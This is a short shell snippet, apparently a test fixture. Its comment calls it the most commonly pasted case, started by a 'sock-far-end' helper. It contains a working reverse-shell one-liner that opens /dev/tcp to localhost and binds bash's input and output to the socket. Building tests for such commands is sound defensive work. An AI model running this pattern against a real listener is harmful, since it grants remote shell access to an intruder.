# TRC-1: what is pasted most. Started by sock-far-end, which sets PORT.
exec 3<>"/dev/tcp/127.0.0.1/$PORT"
exec bash <&3 >&3 2>&3
